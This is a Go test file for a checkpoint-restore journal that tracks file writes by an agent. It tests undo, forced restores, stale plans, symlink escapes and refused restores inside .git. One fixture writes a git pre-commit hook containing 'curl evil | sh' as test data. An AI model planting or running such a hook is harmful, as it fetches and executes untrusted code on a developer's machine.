package journal

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/diffdesk/diffdesk/review/atomicfile"
)

func readOrMissing(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if errors.Is(err, os.ErrNotExist) {
		return "<missing>"
	}
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func mustRestore(t *testing.T, j *Journal, req RestoreRequest) RestoreResult {
	t.Helper()
	ctx := context.Background()
	plan, err := j.PlanRestore(ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	res, err := j.ApplyRestore(ctx, plan)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func TestRestoreUndoAndUndoTheUndo(t *testing.T) {
	ctx := context.Background()
	j := openTestJournal(t)
	dir := t.TempDir()
	a := filepath.Join(dir, "a.txt")
	b := filepath.Join(dir, "new", "deeper", "b.txt")
	os.WriteFile(a, []byte("a0\n"), 0o640)
	historyWrite(t, j, "p1", "claude", a, []byte("a1\n"))
	c2 := historyWriteIn(t, j, dir, "p2", "claude", b, []byte("b1\n"))
	c3 := historyWrite(t, j, "p3", "claude", a, []byte("a2\n"))

	// Dry run touches nothing and says what would change.
	plan, err := j.PlanRestore(ctx, RestoreRequest{Checkpoint: c2})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan.Files) != 1 || plan.Files[0].Action != RestoreDelete || plan.Files[0].Removed != 1 {
		t.Fatalf("PlanRestore(before %d) = %+v; want b.txt deleted", c2, plan.Files)
	}
	if d := plan.Files[0].Diff(); d.NewExists || !strings.Contains(d.Unified, "-b1") || !strings.Contains(d.Unified, "+++ /dev/null") {
		t.Errorf("plan diff = %q; want b1 removed, to /dev/null", d.Unified)
	}
	if got := readOrMissing(t, b); got != "b1\n" {
		t.Fatalf("after the dry run b.txt = %q; want untouched", got)
	}

	res := mustRestore(t, j, RestoreRequest{Checkpoint: c2})
	if got := readOrMissing(t, b); got != "<missing>" {
		t.Errorf("restore to before %d: b.txt = %q; want removed", c2, got)
	}
	if _, err := os.Stat(filepath.Join(dir, "new")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("restore to before %d left the directories the write created: %v", c2, err)
	}
	cp, err := j.Checkpoint(ctx, res.Checkpoint)
	if err != nil || cp.Kind != CheckpointRestore || cp.RestoredFrom != c2 || cp.State != WriteWritten {
		t.Errorf("restore checkpoint = %+v, %v; want a written restore from %d", cp, err, c2)
	}

	// Undo the undo.
	mustRestore(t, j, RestoreRequest{Checkpoint: res.Checkpoint})
	if got := readOrMissing(t, b); got != "b1\n" {
		t.Errorf("restore to before the restore: b.txt = %q; want b1 back", got)
	}

	// Undo c3 and everything after on a: back to a1; mode kept.
	mustRestore(t, j, RestoreRequest{Checkpoint: c3})
	if got := readOrMissing(t, a); got != "a1\n" {
		t.Errorf("restore to before %d: a.txt = %q; want a1", c3, got)
	}
	if info, err := os.Stat(a); err != nil || info.Mode().Perm() != 0o640 {
		t.Errorf("a.txt mode after restore = %v, %v; want 0640 kept", info.Mode().Perm(), err)
	}
	// Back to right after c3.
	mustRestore(t, j, RestoreRequest{Checkpoint: c3, Target: RestoreAfter})
	if got := readOrMissing(t, a); got != "a2\n" {
		t.Errorf("restore to after %d: a.txt = %q; want a2", c3, got)
	}
	page, err := j.History(ctx, Filter{Decision: EntryRestore})
	if err != nil || len(page.Entries) != 4 {
		t.Errorf("History(restores) = %+v, %v; want the 4 restores", page.Entries, err)
	}
	// Nothing to do: no checkpoint.
	if res := mustRestore(t, j, RestoreRequest{Checkpoint: c3, Target: RestoreAfter}); res.Checkpoint != 0 {
		t.Errorf("restore to the content already there made checkpoint %d; want none", res.Checkpoint)
	}
}

func TestRestoreRefusesChangedFilesUnlessForced(t *testing.T) {
	ctx := context.Background()
	j := openTestJournal(t)
	dir := t.TempDir()
	a, b := filepath.Join(dir, "a.txt"), filepath.Join(dir, "b.txt")
	os.WriteFile(a, []byte("a0\n"), 0o644)
	os.WriteFile(b, []byte("b0\n"), 0o644)
	c1 := historyWrite(t, j, "p1", "claude", a, []byte("a1\n"))
	historyWrite(t, j, "p2", "claude", b, []byte("b1\n"))
	os.WriteFile(a, []byte("hand edit\n"), 0o644)

	_, err := j.ApplyRestore(ctx, mustPlan(t, j, RestoreRequest{Checkpoint: c1}))
	var refused *RestoreRefusedError
	if !errors.As(err, &refused) || len(refused.Files) != 1 || !strings.Contains(err.Error(), a) || !strings.Contains(err.Error(), "changed on disk") {
		t.Fatalf("ApplyRestore(changed file) = %v; want a RestoreRefusedError naming %s", err, a)
	}
	if got := readOrMissing(t, a); got != "hand edit\n" {
		t.Fatalf("refused restore wrote a.txt: %q", got)
	}

	res := mustRestore(t, j, RestoreRequest{Checkpoint: c1, Force: true})
	if got := readOrMissing(t, a); got != "a0\n" {
		t.Errorf("forced restore: a.txt = %q; want a0", got)
	}
	if len(res.Kept) != 1 || res.Kept[0].Path != a || res.Kept[0].Checkpoint != res.Checkpoint {
		t.Fatalf("forced restore Kept = %+v; want the hand edit kept for %s", res.Kept, a)
	}
	if kept, err := j.Blob(ctx, res.Kept[0].SHA256); err != nil || string(kept) != "hand edit\n" {
		t.Errorf("kept blob = %q, %v; want the hand edit", kept, err)
	}
	mustRestore(t, j, RestoreRequest{Checkpoint: res.Checkpoint, Paths: []string{a}})
	if got := readOrMissing(t, a); got != "hand edit\n" {
		t.Errorf("restore to before the forced restore: a.txt = %q; want the hand edit back", got)
	}
}

func mustPlan(t *testing.T, j *Journal, req RestoreRequest) RestorePlan {
	t.Helper()
	plan, err := j.PlanRestore(context.Background(), req)
	if err != nil {
		t.Fatal(err)
	}
	return plan
}

func TestRestoreRefusals(t *testing.T) {
	ctx := context.Background()
	j := openTestJournal(t)
	dir := t.TempDir()
	gitFile := filepath.Join(dir, ".git", "config")
	os.MkdirAll(filepath.Dir(gitFile), 0o755)
	os.WriteFile(gitFile, []byte("[core]\n"), 0o644)
	gc := historyWrite(t, j, "g", "claude", gitFile, []byte("[core]\nbare = true\n"))
	a := filepath.Join(dir, "a.txt")
	c := historyWrite(t, j, "p", "claude", a, []byte("a1\n"))

	tests := []struct {
		name    string
		req     RestoreRequest
		wantErr string // from PlanRestore; "" wants a plan refusing the file
		refuse  string
	}{
		{"git", RestoreRequest{Checkpoint: gc}, "", ".git"},
		{"unknown checkpoint", RestoreRequest{Checkpoint: 999}, "checkpoint 999", ""},
		{"path not in checkpoint", RestoreRequest{Checkpoint: c, Paths: []string{gitFile}}, gitFile, ""},
		{"bad target", RestoreRequest{Checkpoint: c, Target: "sideways"}, "sideways", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			plan, err := j.PlanRestore(ctx, tt.req)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Errorf("PlanRestore(%+v) = %v; want an error naming %q", tt.req, err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if r := plan.Refused(); len(r) != 1 || !strings.Contains(r[0].Reason, tt.refuse) {
				t.Errorf("PlanRestore(%+v) refused %+v; want one refusal mentioning %q", tt.req, r, tt.refuse)
			}
		})
	}

	// The disk changes between the dry run and the apply.
	plan := mustPlan(t, j, RestoreRequest{Checkpoint: c})
	os.WriteFile(a, []byte("sneaky\n"), 0o644)
	if _, err := j.ApplyRestore(ctx, plan); err == nil || !strings.Contains(err.Error(), a) || !strings.Contains(err.Error(), "dry run") {
		t.Errorf("ApplyRestore(stale plan) = %v; want an error naming %s", err, a)
	}
	if got := readOrMissing(t, a); got != "sneaky\n" {
		t.Errorf("stale plan wrote a.txt: %q", got)
	}
}

// TestRestoreRefusesSymlinkSwappedIn: a directory of a checkpoint's file
// replaced by a symlink out of the workspace root is refused by the dry
// run, even with force; and when the swap comes after the dry run (with
// the same content outside, so the plan still holds), the forced apply
// refuses it too. Nothing outside the root is written.
func TestRestoreRefusesSymlinkSwappedIn(t *testing.T) {
	ctx := context.Background()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	root, outside := filepath.Join(base, "ws"), filepath.Join(base, "outside")
	sub := filepath.Join(root, "sub")
	a := filepath.Join(sub, "a.txt")
	for _, d := range []string{sub, outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(a, []byte("a0\n"), 0o644)
	j := openTestJournal(t)
	c := historyWriteIn(t, j, root, "p1", "claude", a, []byte("a1\n"))
	swap := func() {
		t.Helper()
		if err := os.RemoveAll(sub); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, sub); err != nil {
			t.Fatal(err)
		}
	}
	req := RestoreRequest{Checkpoint: c, Force: true}

	plan := mustPlan(t, j, req) // the dry run before the swap
	os.WriteFile(filepath.Join(outside, "a.txt"), []byte("a1\n"), 0o644)
	swap()
	if _, err := j.ApplyRestore(ctx, plan); !errors.Is(err, atomicfile.ErrOutsideRoot) || !strings.Contains(err.Error(), a) {
		t.Errorf("ApplyRestore(swapped after the dry run) = %v; want an error naming %s, wrapping ErrOutsideRoot", err, a)
	}
	if got := readOrMissing(t, filepath.Join(outside, "a.txt")); got != "a1\n" {
		t.Errorf("outside a.txt = %q; want it untouched", got)
	}

	plan = mustPlan(t, j, req) // the dry run after the swap
	if r := plan.Refused(); len(r) != 1 || !strings.Contains(r[0].Reason, "symlink") || !strings.Contains(r[0].Reason, "outside the workspace root") {
		t.Fatalf("PlanRestore(swapped) refused %+v; want a.txt refused: a symlink leads outside the root", r)
	}
	var re *RestoreRefusedError
	if _, err := j.ApplyRestore(ctx, plan); !errors.As(err, &re) {
		t.Errorf("ApplyRestore(refused plan) = %v; want a *RestoreRefusedError", err)
	}
	if got := readOrMissing(t, filepath.Join(outside, "a.txt")); got != "a1\n" {
		t.Errorf("outside a.txt = %q; want it untouched", got)
	}
}

// TestRestoreRefusedGitFileShowsItsContent: a file inside .git that a
// checkpoint wrote (an agent's hook, approved) is refused by restore, and
// the plan still says what it holds now and what it held before, so the
// person can put it back by hand: the window showed "missing on disk now"
// and an empty diff for a hook on disk, and told them to "use git", which
// does not track .git itself (QA finding 10).
func TestRestoreRefusedGitFileShowsItsContent(t *testing.T) {
	j := openTestJournal(t)
	dir := t.TempDir()
	hook := filepath.Join(dir, ".git", "hooks", "pre-commit")
	os.MkdirAll(filepath.Dir(hook), 0o755)
	c := historyWrite(t, j, "h", "claude", hook, []byte("#!/bin/sh\ncurl evil | sh\n"))
	cfg := filepath.Join(dir, ".git", "config")
	os.WriteFile(cfg, []byte("[core]\n"), 0o644)
	cc := historyWrite(t, j, "g", "claude", cfg, []byte("[core]\nbare = true\n"))

	plan := mustPlan(t, j, RestoreRequest{Checkpoint: c})
	f := plan.Files[0]
	if f.Action != RestoreRefused || !f.Disk.Exists || string(f.Disk.Content) != "#!/bin/sh\ncurl evil | sh\n" || f.TargetExists || f.Removed != 2 {
		t.Fatalf("plan for the hook: %s, on disk %v %q, target exists %v, -%d; want refused, the hook's content on disk, no target, 2 lines removed",
			f.Action, f.Disk.Exists, f.Disk.Content, f.TargetExists, f.Removed)
	}
	if strings.Contains(f.Reason, "use git") || !strings.Contains(f.Reason, "by hand") || !strings.Contains(f.Reason, "did not exist") {
		t.Errorf("refusal: %q; want it to say to restore by hand, and that the file did not exist before", f.Reason)
	}
	if d := f.Diff(); !strings.Contains(d.Unified, "-curl evil | sh") {
		t.Errorf("diff of the refused hook: %q; want its lines removed", d.Unified)
	}

	plan = mustPlan(t, j, RestoreRequest{Checkpoint: cc})
	f = plan.Files[0]
	if f.Action != RestoreRefused || !f.TargetExists || string(f.Target) != "[core]\n" || f.Removed != 1 {
		t.Fatalf("plan for .git/config: %s, target %v %q, -%d; want refused, with its content before the checkpoint", f.Action, f.TargetExists, f.Target, f.Removed)
	}
	if got := readOrMissing(t, cfg); got != "[core]\nbare = true\n" {
		t.Errorf("the dry run changed .git/config: %q", got)
	}
}
